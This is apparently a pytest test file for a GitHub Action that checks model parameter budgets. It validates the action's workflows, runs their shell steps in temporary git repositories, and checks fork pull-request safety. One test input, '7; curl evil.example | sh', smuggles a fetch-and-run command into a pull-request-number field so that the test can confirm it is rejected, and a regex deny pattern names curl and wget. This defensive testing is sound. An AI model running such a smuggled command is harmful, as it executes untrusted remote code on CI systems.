"""The GitHub Action (action.yml) and the example workflows: valid against GitHub's published
schemas (check-jsonschema's vendored copies, offline), and the action's own shell steps run here
on a pull request in real git repositories, with the ``GITHUB_*`` files in a temp directory.

Figures by hand: Linear(10, 5) on [1, 10] has 55 params, Linear(10, 6) 66, Linear(10, 7) 77.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import yaml
from test_baseline_workflow import write

ROOT = Path(__file__).resolve().parent.parent
ACTION = yaml.safe_load((ROOT / "action.yml").read_text(encoding="utf-8"))
EXAMPLES = sorted((ROOT / "examples" / "github").glob("*.yml"))


def check_jsonschema(schema: str, *paths: Path) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "check_jsonschema", "--builtin-schema", schema, *map(str, paths)],
        capture_output=True,
        text=True,
        check=False,
    )


def test_action_and_example_workflows_match_githubs_schemas(tmp_path):
    assert EXAMPLES, "examples/github/ holds the example workflows"
    action = check_jsonschema("vendor.github-actions", ROOT / "action.yml")
    assert action.returncode == 0, action.stdout + action.stderr
    workflows = check_jsonschema("vendor.github-workflows", *EXAMPLES)
    assert workflows.returncode == 0, workflows.stdout + workflows.stderr
    # and the check can fail: a composite step without its shell is rejected
    broken = yaml.safe_load((ROOT / "action.yml").read_text(encoding="utf-8"))
    del broken["runs"]["steps"][0]["shell"]
    (tmp_path / "action.yml").write_text(yaml.safe_dump(broken), encoding="utf-8")
    assert check_jsonschema("vendor.github-actions", tmp_path / "action.yml").returncode != 0


def test_the_action_installs_nothing_and_reuses_kept_actions():
    steps = ACTION["runs"]["steps"]
    assert ACTION["runs"]["using"] == "composite"
    scripts = "\n".join(step.get("run", "") for step in steps)
    assert not re.search(r"\bpip\b|\bcurl\b|\bwget\b|\bconda\b|\buv\b", scripts)
    used = [step["uses"] for step in steps if "uses" in step]
    # the upload comes first: the comment links to the artifact
    assert used == ["actions/upload-artifact@v4", "marocchino/sticky-pull-request-comment@v2.9.4"]
    comment = next(step for step in steps if "sticky" in step.get("uses", ""))
    assert comment["continue-on-error"] is True  # a fork's read-only token must not fail the budgets job
    assert "pull_request" in comment["if"]
    assert set(ACTION["outputs"]) == {"status", "report", "html", "markdown", "changed"}


EXPRESSION = re.compile(r"\$\{\{\s*([^}]*?)\s*\}\}")


def evaluate(text: str, context: dict[str, str]) -> str:
    """The ``${{ name }}`` expressions the action's env and inputs use: plain context lookups (a step's
    output that was never set is '', as on GitHub)."""
    return EXPRESSION.sub(
        lambda match: (
            context.get(match.group(1), "") if match.group(1).startswith("steps.") else context[match.group(1)]
        ),
        str(text),
    )


#: The one kind of ``if`` condition the shell steps depend on: an output of an earlier step that is set.
SET_OUTPUT = re.compile(r"(steps\.[\w-]+\.outputs\.[\w-]+) != ''")


#: What the steps that use other actions output on GitHub (the upload's link to its artifact).
USES_OUTPUTS = {"upload": {"artifact-url": "https://github.com/o/r/actions/runs/1/artifacts/2"}}


def step_named(name: str) -> dict:
    return next(step for step in ACTION["runs"]["steps"] if step["name"].startswith(name))


def run_steps(steps: list[dict], workspace: Path, runner_temp: Path, context: dict[str, str], prefix: str = "") -> dict:
    """Run every shell step in order, as the runner does (bash -e -o pipefail, the step's env and
    working directory, GITHUB_OUTPUT per step); each step's outputs go into ``context`` as
    ``steps.ID.outputs.NAME``, a step that uses another action outputs what USES_OUTPUTS says, and a
    step whose ``if`` needs an output that is not set is skipped. The exit code and output of each
    step, by its id (or name)."""
    summary = runner_temp / "step_summary.md"
    codes = {}
    for index, step in enumerate(steps):
        if any(not context.get(name) for name in SET_OUTPUT.findall(step.get("if", ""))):
            continue  # skipped on GitHub too
        if "run" not in step:
            for key, value in USES_OUTPUTS.get(step.get("id", ""), {}).items():
                context[f"steps.{step['id']}.outputs.{key}"] = value
            continue
        output = runner_temp / f"output-{prefix}{index}"
        output.write_text("", encoding="utf-8")
        env = {**os.environ, "RUNNER_TEMP": str(runner_temp), "GITHUB_OUTPUT": str(output)}
        env["GITHUB_STEP_SUMMARY"] = str(summary)
        env.update({name: evaluate(value, context) for name, value in step.get("env", {}).items()})
        directory = workspace / evaluate(step.get("working-directory", "."), context)
        done = subprocess.run(
            ["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", step["run"]],
            cwd=directory,
            env=env,
            capture_output=True,
            text=True,
            check=False,
        )
        codes[step.get("id") or step.get("name") or f"step-{index}"] = (done.returncode, done.stdout + done.stderr)
        for line in output.read_text(encoding="utf-8").splitlines():
            key, _, value = line.partition("=")
            context[f"steps.{step.get('id')}.outputs.{key}"] = value
    return codes


def run_action(workspace: Path, runner_temp: Path, inputs: dict[str, str], github: dict[str, str]) -> dict:
    """Run every shell step of action.yml with these inputs (the defaults for the others); return the
    context (the steps' outputs), the steps' exit codes and the job summary's path."""
    context = {f"github.{name}": value for name, value in github.items()}
    for name, spec in ACTION["inputs"].items():
        context[f"inputs.{name}"] = inputs.get(name, evaluate(spec.get("default", ""), context))
    codes = run_steps(ACTION["runs"]["steps"], workspace, runner_temp, context, prefix="action-")
    return {"context": context, "codes": codes, "summary": runner_temp / "step_summary.md"}


@pytest.fixture
def open_pull_request(pytester, project, monkeypatch, tmp_path_factory):
    """``open_pull_request(width, accept)``: an origin repository (main with a baseline, a branch that
    makes tiny ``width`` wide and, with ``accept``, updates the baseline) and the branch cloned as
    actions/checkout does: one commit deep, without main."""
    for variable in ("GIT_AUTHOR_NAME", "GIT_COMMITTER_NAME"):
        monkeypatch.setenv(variable, "Netbudget Test")
    for variable in ("GIT_AUTHOR_EMAIL", "GIT_COMMITTER_EMAIL"):
        monkeypatch.setenv(variable, "test@example.com")

    def git(*args: str, cwd: Path = pytester.path) -> None:
        done = subprocess.run(["git", *args], cwd=cwd, capture_output=True, text=True, check=False)
        assert done.returncode == 0, done.stderr

    def open_it(width: int, accept: bool, branch: str = "wider") -> Path:
        git("init", "-q", "-b", "main")
        (pytester.path / ".gitignore").write_text("__pycache__/\n", encoding="utf-8")
        write(pytester, project)
        assert pytester.runpytest("--netbudget", "--netbudget-update").ret == 0
        git("add", "-A")
        git("commit", "-q", "-m", "models and baseline")
        git("checkout", "-q", "-b", branch)
        write(pytester, project, width=width)
        if accept:
            assert pytester.runpytest("--netbudget", "--netbudget-update").ret == 0
        git("commit", "-q", "-am", f"tiny {width} wide{', accepted' if accept else ''}")
        workspace = tmp_path_factory.mktemp("workspace")
        git("clone", "-q", "--depth=1", "--single-branch", f"--branch={branch}", pytester.path.as_uri(), str(workspace))
        return workspace

    return open_it


@pytest.fixture
def pull_request(open_pull_request):
    """A pull request that widens tiny to 66 params and accepts it."""
    return open_pull_request(6, accept=True)


def test_the_actions_steps_on_a_pull_request(pull_request, tmp_path, preloaded):
    workspace, temp = pull_request, tmp_path
    github = {"base_ref": "main", "token": "unused", "event_name": "pull_request"}
    inputs = {"python": sys.executable, "pytest-args": "-p no:cacheprovider", "comment-when": "changed"}
    ran = run_action(workspace, temp, inputs, github)
    code, log = ran["codes"]["run"]
    assert code == 0, log
    context = ran["context"]
    # the base branch was fetched for git show, and the run was green (the growth is accepted)
    assert context["steps.run.outputs.status"] == "pass", log
    assert "2 passed" in log
    report = json.loads(Path(context["steps.run.outputs.report"]).read_text(encoding="utf-8"))
    assert report["models"]["tiny"]["metrics"]["params"]["reference"] == 55  # origin/main's
    assert report["models"]["tiny"]["metrics"]["params"]["baseline"] == 66  # the pull request's
    assert report["compared_with"].startswith("netbudget-baseline.json at origin/main;")
    # the comment is the Markdown report, and the job summary got it too
    comment_step = step_named("Upsert the pull-request comment")
    comment = Path(evaluate(comment_step["with"]["path"], context)).read_text(encoding="utf-8")
    assert "| <code>fc</code> (Linear) | resized | 55 -> 66 | 50 -> 60 | 105 -> 126 |" in comment
    assert evaluate(comment_step["with"]["only_update"], context) == "false"  # it changed: post
    # the HTML report is uploaded beside the JSON, and the comment and the job summary link to it
    upload_step = step_named("Upload the JSON and HTML reports")
    uploaded = evaluate(upload_step["with"]["path"], context).split()
    assert uploaded == [context["steps.run.outputs.report"], context["steps.run.outputs.html"]]
    assert "treemap.js" not in Path(uploaded[1]).read_text(encoding="utf-8")  # inline, not a link
    assert "<code>tiny</code>" in Path(uploaded[1]).read_text(encoding="utf-8")
    link = comment.rstrip().splitlines()[-1]
    assert link.startswith("📊 [The HTML report](https://github.com/o/r/actions/runs/1/artifacts/2): ")
    assert link.endswith("(the artifact netbudget-report; open netbudget.html from it).")
    summary = ran["summary"].read_text(encoding="utf-8")
    assert comment.rstrip().replace(link, "").rstrip() in summary and summary.rstrip().endswith(link)
    assert context["steps.run.outputs.changed"] == "true"
    assert ran["codes"]["Fail when a model failed"][0] == 0  # the last step passes a green run


def test_the_last_step_fails_the_job_unless_the_run_passed(tmp_path):
    last = ACTION["runs"]["steps"][-1]
    for status, code, expected in (("pass", "0", 0), ("fail", "1", 1), ("error", "4", 1)):
        env = {**os.environ, "NETBUDGET_STATUS": status, "NETBUDGET_EXIT_CODE": code}
        assert last["env"] == {
            "NETBUDGET_STATUS": "${{ steps.run.outputs.status }}",
            "NETBUDGET_EXIT_CODE": "${{ steps.run.outputs.exit-code }}",
        }
        done = subprocess.run(["bash", "-eo", "pipefail", "-c", last["run"]], env=env, capture_output=True, text=True)
        assert done.returncode == expected
        if expected:
            assert f"::error title=netbudget::pytest --netbudget: {status} (exit code {code})" in done.stdout


def test_the_action_reports_a_run_that_could_not_start(tmp_path):
    (tmp_path / "pyproject.toml").write_text("[tool.netbudget]\nmax_increase = 'lots'\n", encoding="utf-8")
    inputs = {"python": sys.executable, "pytest-args": "-p no:cacheprovider"}
    ran = run_action(tmp_path, tmp_path, inputs, {"base_ref": "", "token": "unused", "event_name": "push"})
    assert ran["context"]["steps.run.outputs.status"] == "error"
    assert ran["context"]["steps.run.outputs.exit-code"] == "4"  # pytest's usage error
    fallback = "**pytest --netbudget stopped with exit code 4 before writing a report**: see the job log."
    assert fallback in (tmp_path / "netbudget" / "netbudget.md").read_text(encoding="utf-8")
    assert fallback in ran["summary"].read_text(encoding="utf-8")
    assert ran["context"]["steps.run.outputs.changed"] == "true"  # no report: its error is news
    assert ran["codes"]["Fail when a model failed"][0] == 1


def test_comment_when_changed_on_an_unchanged_branch_only_updates_a_comment(pull_request, tmp_path, preloaded):
    """``comment-when: changed`` on main against main: nothing changed, so the sticky action only
    updates a comment already there (its ``only_update``) and posts none. (On the branch that grew,
    test_the_actions_steps_on_a_pull_request, it posts.)"""
    subprocess.run(["git", "fetch", "-q", "origin", "main:main"], cwd=pull_request, check=True, capture_output=True)
    subprocess.run(["git", "checkout", "-q", "main"], cwd=pull_request, check=True, capture_output=True)
    github = {"base_ref": "main", "token": "unused", "event_name": "pull_request"}
    inputs = {"python": sys.executable, "pytest-args": "-p no:cacheprovider", "comment-when": "changed"}
    ran = run_action(pull_request, tmp_path, inputs, github)
    context = ran["context"]
    assert ran["codes"]["run"][0] == 0, ran["codes"]["run"][1]
    assert context["steps.run.outputs.changed"] == "false"
    assert evaluate(step_named("Upsert the pull-request comment")["with"]["only_update"], context) == "true"


def test_comment_when_must_be_always_or_changed(tmp_path):
    inputs = {"python": sys.executable, "comment-when": "sometimes"}
    ran = run_action(tmp_path, tmp_path, inputs, {"base_ref": "", "token": "unused", "event_name": "push"})
    code, log = ran["codes"]["run"]
    assert code == 2 and "comment-when must be always or changed, not 'sometimes'" in log


# A pull request that shrinks tiny (Linear(10, 4): 44 params, against the baseline's 55) and does not
# update the baseline: nothing grew, so no budget fails, but main's --netbudget-check-baseline would
# fail after the merge.


def test_the_action_fails_a_pull_request_whose_baseline_does_not_match_its_code(open_pull_request, tmp_path):
    # Before: the job was green, and main went red after the merge.
    workspace = open_pull_request(4, accept=False)
    github = {"base_ref": "main", "token": "unused", "event_name": "pull_request"}
    ran = run_action(workspace, tmp_path, {"python": sys.executable, "pytest-args": "-p no:cacheprovider"}, github)
    code, log = ran["codes"]["run"]
    assert ran["context"]["steps.run.outputs.status"] == "fail", log
    assert "netbudget: ERROR: netbudget-baseline.json does not match this run: tiny's params" in log
    assert ran["codes"]["Fail when a model failed"][0] == 1  # the job fails
    # and the comment and the job summary say why at their top, with the command that fixes it
    comment = Path(ran["context"]["steps.run.outputs.markdown"]).read_text(encoding="utf-8")
    top = comment.split("| model |")[0]
    assert "**All 2 model(s) within budget; the committed baseline does not match the code**" in top
    assert "> ❌ **netbudget-baseline.json does not match this code:** tiny&#39;s params" in top
    assert "Refresh it with `pytest --netbudget --netbudget-update` and commit netbudget-baseline.json" in top
    assert top in ran["summary"].read_text(encoding="utf-8")


def test_stale_baseline_warning_lets_such_a_pull_request_pass(open_pull_request, tmp_path):
    workspace = open_pull_request(4, accept=False)
    github = {"base_ref": "main", "token": "unused", "event_name": "pull_request"}
    inputs = {"python": sys.executable, "pytest-args": "-p no:cacheprovider", "stale-baseline": "warning"}
    ran = run_action(workspace, tmp_path, inputs, github)
    code, log = ran["codes"]["run"]
    assert ran["context"]["steps.run.outputs.status"] == "pass", log
    assert "netbudget: netbudget-baseline.json is out of date: tiny's params" in log
    assert ran["codes"]["Fail when a model failed"][0] == 0
    comment = Path(ran["context"]["steps.run.outputs.markdown"]).read_text(encoding="utf-8")
    assert "**All 2 model(s) within budget**" in comment  # a warning is no failure: the line under it says it
    assert (
        "> ⚠️ **netbudget-baseline.json does not match this code:** tiny&#39;s params" in comment.split("| model |")[0]
    )


def test_an_unknown_stale_baseline_value_stops_the_action(tmp_path):
    inputs = {"python": sys.executable, "stale-baseline": "maybe"}
    ran = run_action(tmp_path, tmp_path, inputs, {"base_ref": "", "token": "unused", "event_name": "push"})
    code, log = ran["codes"]["run"]
    assert code == 2 and "stale-baseline must be error or warning, not 'maybe'" in log


# --- pull requests from forks: two workflows ---------------------------------------------------------------

FORK_PR = yaml.safe_load((ROOT / "examples" / "github" / "netbudget-fork-pr.yml").read_text(encoding="utf-8"))
FORK_COMMENT = yaml.safe_load((ROOT / "examples" / "github" / "netbudget-fork-comment.yml").read_text(encoding="utf-8"))
HEAD_SHA = "0123456789abcdef0123456789abcdef01234567"
# `gh api repos/OWNER/REPO/pulls/N --jq .head.sha` as GitHub answers it: pull request 7's head is HEAD_SHA.
FAKE_GH = f"""#!/bin/sh
[ "$GH_TOKEN" = write-token ] || {{ echo "no token" >&2; exit 4; }}
case "$*" in
  "api repos/owner/repo/pulls/7 --jq .head.sha") echo {HEAD_SHA} ;;
  "api repos/owner/repo/pulls/8 --jq .head.sha") echo fedcba9876543210fedcba9876543210fedcba98 ;;
  *) echo "unexpected gh call: $*" >&2; exit 1 ;;
esac
"""


def only_job(workflow: dict) -> list[dict]:
    (job,) = workflow["jobs"].values()
    return job["steps"]


def test_the_fork_workflows_trigger_each_other_and_never_run_the_forks_code_with_a_write_token():
    # the comment workflow follows the pull request's by name, with only what it needs to write
    assert FORK_COMMENT[True]["workflow_run"]["workflows"] == [FORK_PR["name"]]  # YAML reads `on:` as True
    assert set(FORK_PR[True]) == {"pull_request"} and FORK_PR["permissions"] == {"contents": "read"}
    assert FORK_COMMENT["permissions"] == {"actions": "read", "pull-requests": "write"}
    comment_steps = only_job(FORK_COMMENT)
    assert not any("checkout" in step.get("uses", "") for step in comment_steps)
    # no expression is pasted into a script (where text from the fork could become code): env only
    for step in only_job(FORK_PR) + comment_steps:
        assert "${{" not in step.get("run", "")
    upload = next(step for step in only_job(FORK_PR) if "upload-artifact" in step.get("uses", ""))
    download = next(step for step in comment_steps if "download-artifact" in step.get("uses", ""))
    assert download["with"]["name"] == upload["with"]["name"]
    assert download["with"]["run-id"] == "${{ github.event.workflow_run.id }}"


def run_fork_pull_request(workspace: Path, temp: Path) -> dict[str, str]:
    """The pull request's workflow after checkout and install: the action (comment off, as the
    workflow says), then the workflow's own step that keeps the comment; its context."""
    action = next(step for step in only_job(FORK_PR) if step.get("id") == "netbudget")
    inputs = {**action["with"], "python": sys.executable, "pytest-args": "-p no:cacheprovider"}
    ran = run_action(workspace, temp, inputs, {"base_ref": "main", "token": "unused", "event_name": "pull_request"})
    assert ran["context"]["steps.run.outputs.status"] == "pass", ran["codes"]["run"][1]
    context = {
        "steps.netbudget.outputs.markdown": ran["context"]["steps.run.outputs.markdown"],
        "github.event.pull_request.number": "7",
    }
    steps = only_job(FORK_PR)
    after = steps[steps.index(action) + 1 :]  # checkout, Python and the install ran before (here: this venv)
    codes = run_steps(after, workspace, temp, context, prefix="pr-")
    assert all(code == 0 for code, _ in codes.values()), codes
    return context


def run_fork_comment(artifact: Path, temp: Path) -> tuple[dict, dict[str, str]]:
    """The comment workflow, with the artifact as download-artifact leaves it and `gh` answering
    as GitHub does; its steps' exit codes and context."""
    base = temp / "base"
    download = next(step for step in only_job(FORK_COMMENT) if "download-artifact" in step.get("uses", ""))
    shutil.copytree(artifact, base / download["with"]["path"])
    bin_dir = temp / "bin"
    bin_dir.mkdir()
    (bin_dir / "gh").write_text(FAKE_GH, encoding="utf-8")
    (bin_dir / "gh").chmod(0o755)
    context = {
        "github.token": "write-token",
        "github.repository": "owner/repo",
        "github.event.workflow_run.head_sha": HEAD_SHA,
    }
    path = os.environ["PATH"]
    os.environ["PATH"] = f"{bin_dir}{os.pathsep}{path}"
    try:
        codes = run_steps(only_job(FORK_COMMENT), base, temp, context, prefix="comment-")
    finally:
        os.environ["PATH"] = path
    return codes, context


def test_a_fork_pull_request_gets_its_comment_from_the_workflow_run(pull_request, tmp_path, preloaded):
    workspace = pull_request
    pr_context = run_fork_pull_request(workspace, tmp_path)
    artifact = workspace / "netbudget-comment"
    upload = next(step for step in only_job(FORK_PR) if "upload-artifact" in step.get("uses", ""))
    assert workspace / upload["with"]["path"] == artifact
    report = Path(pr_context["steps.netbudget.outputs.markdown"]).read_text(encoding="utf-8")
    assert (artifact / "netbudget.md").read_text(encoding="utf-8") == report
    assert (artifact / "pull-request-number").read_text(encoding="utf-8") == "7\n"

    codes, context = run_fork_comment(artifact, tmp_path)
    assert codes["pull-request"][0] == 0, codes["pull-request"][1]
    sticky = next(step for step in only_job(FORK_COMMENT) if "sticky" in step.get("uses", ""))
    assert evaluate(sticky["with"]["number"], context) == "7"
    posted = tmp_path / "base" / sticky["with"]["path"]
    assert posted.read_text(encoding="utf-8") == report
    assert "| <code>fc</code> (Linear) | resized | 55 -> 66 | 50 -> 60 | 105 -> 126 |" in report


@pytest.mark.parametrize(
    ("number", "code", "message"),
    [
        pytest.param("7; curl evil.example | sh", 1, "pull-request-number is not a number", id="not-a-number"),
        pytest.param("", 1, "pull-request-number is not a number", id="empty"),
        pytest.param("8", 0, "not commenting: pull request #8's head is fedcba98", id="another-pull-request"),
    ],
)
def test_the_comment_workflow_posts_only_to_the_pull_request_the_run_tested(tmp_path, number, code, message):
    artifact = tmp_path / "artifact"
    artifact.mkdir()
    (artifact / "netbudget.md").write_text("## netbudget\n", encoding="utf-8")
    (artifact / "pull-request-number").write_text(f"{number}\n", encoding="utf-8")
    codes, context = run_fork_comment(artifact, tmp_path)
    assert codes["pull-request"][0] == code
    assert message in codes["pull-request"][1]
    assert "steps.pull-request.outputs.number" not in context  # the sticky step's `if` skips it
    sticky = next(step for step in only_job(FORK_COMMENT) if "sticky" in step.get("uses", ""))
    assert sticky["if"] == "steps.pull-request.outputs.number != ''"
